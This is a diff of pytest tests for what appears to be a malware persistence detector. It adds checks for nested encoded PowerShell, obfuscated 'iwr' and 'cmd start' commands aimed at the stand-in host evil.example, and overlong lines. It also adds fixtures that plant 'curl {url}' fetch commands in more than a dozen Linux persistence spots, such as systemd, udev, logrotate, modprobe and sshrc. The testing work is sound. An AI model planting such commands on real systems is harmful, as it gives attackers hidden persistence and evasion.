@@ -206,22 +206,54 @@ def test_the_hash_of_a_program_that_is_gone_is_strong(plant: Any) -> None:
     ],
 )
 def test_what_powershell_gets_encoded_is_read(text: str, inner: str) -> None:
-    assert inner in commandline.unfolded(text)
+    told, is_whole = commandline.unfolded(text)
+    assert inner in told
+    assert is_whole
 
 
 @pytest.mark.parametrize(
     "text", ["-enc ====", "-e " + "A" * 100_000, "-enc " * 20_000, "\ud800 -enc AAAA" * 99]
 )
 def test_an_encoded_command_of_any_shape_is_bounded(text: str) -> None:
-    assert len(commandline.unfolded(text)) < 1_000_000
+    assert len(commandline.unfolded(text)[0]) < 1_000_000
 
 
 def test_encoded_commands_within_each_other_end() -> None:
     text = "x"
     for _level in range(12):
         text = f"powershell -enc {encoded(text)}"
-    told = commandline.unfolded(text)
-    assert told.count("powershell") <= 3
+    told, is_whole = commandline.unfolded(text)
+    assert told.count("powershell") <= 5
+    assert not is_whole
+
+
+@pytest.mark.parametrize(("levels", "verdict"), [(3, "found"), (4, "found"), (9, "unknown")])
+def test_what_is_encoded_too_often_is_never_clean(levels: int, verdict: str) -> None:
+    command = f"iwr {URL}"
+    for _level in range(levels):
+        command = f"powershell -enc {encoded(command)}"
+    done = world.look_at_recording(world.planted(_key(rf"{AN}\{CURRENT}\Run", x=command)))
+    assert str(done.verdict) == verdict
+    assert [gap.reason for gap in done.observed["indicators"].gaps] == ["too_deep"] * (levels == 9)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        f"cmd /c p^owershell -e^nc {encoded(f'iwr {URL}')}",
+        "cmd /c start ht^tp://ev^il.exam^ple/a",
+        f"powershell -enc {encoded('iwr ht`tp://ev`il.example/a')}",
+    ],
+)
+def test_marks_within_words_hide_no_address(command: str) -> None:
+    done = world.look_at_recording(world.planted(_key(rf"{AN}\{CURRENT}\Run", x=command)))
+    assert {one.indicator for one in done.findings if one.indicator} == {"evil.example"}
+
+
+def test_a_line_that_is_longer_than_the_check_reads_is_never_clean() -> None:
+    for pad, verdict in ((5_000, "found"), (70_000, "unknown")):
+        told = world.planted(_file(rf"{STARTUP}\a.bat", f"rem {'a' * pad} & curl {URL}\r\n"))
+        assert str(world.look_at_recording(told).verdict) == verdict
 
 
 def test_values_of_the_registry_that_are_cut_off_give_what_stands_before() -> None:
@@ -260,6 +292,26 @@ LINUX: dict[str, Any] = {
     "a forced command": lambda url: (
         "/root/.ssh/authorized_keys", f'no-pty,command="curl {url} -o x" ssh-ed25519 AAAA an@x\n'
     ),
+    "a unit of systemctl set-property": lambda url: (
+        "/etc/systemd/system.control/a.service", f"[Service]\nExecStart=/usr/bin/curl {url}\n"
+    ),
+    "a command of a unit on its next line": lambda url: (
+        "/etc/systemd/system/a.service", f"[Service]\nExecStart=/bin/sh -c \\\n# x\n  'curl {url}'\n"
+    ),
+    "a generator": lambda url: ("/etc/systemd/system-generators/a", f"#!/bin/sh\ncurl {url}\n"),
+    "a job of at": lambda url: ("/var/spool/cron/atjobs/a0001", f"#!/bin/sh\ncurl {url}\n"),
+    "cron.yearly": lambda url: ("/etc/cron.yearly/a", f"#!/bin/sh\ncurl {url}\n"),
+    "a rule of udev": lambda url: ("/etc/udev/rules.d/9.rules", f'RUN+="/usr/bin/curl {url}"\n'),
+    "update-motd.d": lambda url: ("/etc/update-motd.d/9", f"#!/bin/sh\ncurl {url}\n"),
+    "a dispatcher of NetworkManager": lambda url: (
+        "/etc/NetworkManager/dispatcher.d/pre-up.d/9", f"#!/bin/sh\ncurl {url}\n"
+    ),
+    "if-up.d": lambda url: ("/etc/network/if-up.d/9", f"#!/bin/sh\ncurl {url}\n"),
+    "sshrc": lambda url: ("/etc/ssh/sshrc", f"curl {url}\n"),
+    "ssh rc of one person": lambda url: ("/root/.ssh/rc", f"curl {url}\n"),
+    "logrotate": lambda url: ("/etc/logrotate.d/a", f"/a {{\n postrotate\n  curl {url}\n endscript\n}}\n"),
+    "modprobe": lambda url: ("/etc/modprobe.d/a.conf", f"install usb /usr/bin/curl {url}\n"),
+    "a name over two lines": lambda url: ("/root/.bashrc", f"curl {url[:12]}\\\n{url[12:]}\n"),
     "the DNS server": lambda _url: ("/etc/resolv.conf", "nameserver 198.51.100.66\n"),
 }  # fmt: skip
 
